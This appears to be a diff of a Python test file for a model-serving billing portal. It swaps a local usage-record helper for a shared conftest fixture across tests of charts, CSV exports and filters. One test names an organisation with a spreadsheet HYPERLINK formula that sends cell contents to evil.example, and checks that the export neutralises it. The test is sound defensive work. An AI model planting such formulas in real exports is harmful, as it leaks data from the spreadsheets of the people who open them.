@@ -3,7 +3,7 @@
 import csv
 import io
 import uuid
-from datetime import datetime, timedelta
+from datetime import timedelta
 from typing import Any
 
 import pytest
@@ -16,29 +16,7 @@ from billing.models import UsageRecord
 from models_registry.models import ModelVersion
 from portal.services import usage_rollup_refresh
 
-
-def _calls(
-    organisation: Organisation,
-    version: ModelVersion,
-    times: int = 1,
-    *,
-    api_key: APIKey | None = None,
-    units: int = 1,
-    created_at: datetime | None = None,
-) -> None:
-    for _ in range(times):
-        UsageRecord.objects.create(
-            request_id="req_" + uuid.uuid4().hex,
-            organisation=organisation,
-            api_key=api_key,
-            face="v1-predict",
-            meter="online_predictions",
-            model_version=version,
-            units=units,
-            status_code=200,
-            latency_ms=5.0,
-            created_at=created_at or timezone.now(),
-        )
+from .conftest import record_calls
 
 
 def _csv(response: Any) -> list[dict[str, str]]:
@@ -66,8 +44,8 @@ def test_it_charts_organisations_with_the_same_name_as_separate_series(
     staff_client: Client, namesakes: tuple[Organisation, Organisation], iris: ModelVersion
 ) -> None:
     first, second = namesakes
-    _calls(first, iris, 1)
-    _calls(second, iris, 2)
+    record_calls(first, iris, 1)
+    record_calls(second, iris, 2)
     d = staff_client.get("/staff/").context["d"]
     expected = {"Acme Corp (acme-corp)": 1, "Acme Corp (acme-corp-2)": 2}
     assert _totals(d["calls_by_org"]) == expected
@@ -92,8 +70,8 @@ def test_it_exports_organisations_with_the_same_name_as_separate_rows(
     staff_client: Client, namesakes: tuple[Organisation, Organisation], iris: ModelVersion
 ) -> None:
     first, second = namesakes
-    _calls(first, iris, 1)
-    _calls(second, iris, 2)
+    record_calls(first, iris, 1)
+    record_calls(second, iris, 2)
     rows = _csv(staff_client.get("/staff/usage/export.csv"))
     assert sorted((r["organisation"], r["calls"]) for r in rows) == [
         ("Acme Corp (acme-corp)", "1"),
@@ -149,8 +127,8 @@ def test_it_accepts_the_first_and_last_days_it_allows(owner_client: Client) -> N
 def test_it_exports_only_the_calls_to_the_chosen_model(
     owner_client: Client, org: Organisation, iris: ModelVersion, diabetes: ModelVersion
 ) -> None:
-    _calls(org, iris, 2)
-    _calls(org, diabetes, 1)
+    record_calls(org, iris, 2)
+    record_calls(org, diabetes, 1)
     everything = _csv(owner_client.get("/portal/usage/export.csv"))
     chosen = _csv(owner_client.get("/portal/usage/export.csv", {"model": diabetes.model_id}))
     assert sorted(r["model"] for r in everything) == ["diabetes", "iris", "iris"]
@@ -176,7 +154,7 @@ def test_it_offers_no_export_link_while_the_filter_is_invalid(
 def test_a_top_customer_link_keeps_the_pages_dates_and_model(
     staff_client: Client, org: Organisation, iris: ModelVersion
 ) -> None:
-    _calls(org, iris)
+    record_calls(org, iris)
     today, model = timezone.localdate(), iris.model_id
     page = staff_client.get("/staff/", {"start": today, "end": today, "model": model}).content.decode()
     assert f'href="?start={today}&amp;end={today}&amp;model={model}&amp;organisation={org.pk}"' in page
@@ -192,7 +170,7 @@ def two_keys(org: Organisation, iris: ModelVersion) -> tuple[APIKey, APIKey]:
     jobs, _ = api_key_create(organisation=org, name="batch jobs", scopes=["predict"])
     now = timezone.now()
     for key, when in [(backend, now - timedelta(days=1)), (backend, now), (jobs, now)]:
-        _calls(org, iris, api_key=key, units=3, created_at=when)
+        record_calls(org, iris, api_key=key, units=3, created_at=when)
     usage_rollup_refresh()
     return backend, jobs
 
@@ -223,7 +201,7 @@ def test_the_latest_calls_follow_the_key_and_model_filter(
     owner_client: Client, org: Organisation, two_keys: tuple[APIKey, APIKey], diabetes: ModelVersion
 ) -> None:
     _, jobs = two_keys
-    _calls(org, diabetes)  # no key, another model
+    record_calls(org, diabetes)  # no key, another model
     for path in ("/portal/usage/", "/portal/usage/calls/"):  # the page, and its *Refresh*
         calls = owner_client.get(path, {"key": jobs.prefix}).context["calls"]
         assert [c.api_key_id for c in calls] == [jobs.pk]
@@ -241,7 +219,7 @@ def test_the_staff_export_never_hands_a_spreadsheet_a_customers_formula(
 ) -> None:
     """An organisation named like a formula would run in the spreadsheet of the staff member who opens it."""
     evil = organisation_get_or_create(name='=HYPERLINK("http://evil.example/?"&A2,"open")', slug="evil")
-    _calls(evil, iris)
+    record_calls(evil, iris)
     rows = _csv(staff_client.get("/staff/usage/export.csv"))
     assert [row["organisation"] for row in rows] == ["'" + '=HYPERLINK("http://evil.example/?"&A2,"open") (evil)']
     assert rows[0]["calls"] == "1"  # numbers stay numbers
@@ -251,17 +229,7 @@ def test_the_staff_export_never_hands_a_spreadsheet_a_customers_formula(
 def test_the_call_export_never_hands_a_spreadsheet_a_callers_formula(
     owner_client: Client, org: Organisation, iris: ModelVersion, text: str
 ) -> None:
-    UsageRecord.objects.create(
-        request_id="req_" + uuid.uuid4().hex,
-        client_request_id=text,  # text in the ledger, however it got there
-        organisation=org,
-        face="v1-predict",
-        meter="online_predictions",
-        model_version=iris,
-        units=1,
-        status_code=200,
-        latency_ms=5.0,
-    )
+    record_calls(org, iris, client_request_id=text)  # text in the ledger, however it got there
     (row,) = _csv(owner_client.get("/portal/usage/export.csv"))
     assert row["client_request_id"] == "'" + text
     assert row["units"] == "1"
@@ -281,7 +249,7 @@ def test_a_version_without_latency_reads_a_dash_not_a_dash_in_milliseconds(
 def test_the_staff_charts_data_tables_count_calls_in_whole_numbers(
     staff_client: Client, namesakes: tuple[Organisation, Organisation], iris: ModelVersion
 ) -> None:
-    _calls(namesakes[0], iris, 3)
+    record_calls(namesakes[0], iris, 3)
     page = staff_client.get("/staff/")
     for chart in ("calls_by_org", "units_by_org", "calls_by_version", "units_by_version"):
         assert 3 in page.context["d"][chart]["datasets"][0]["data"]
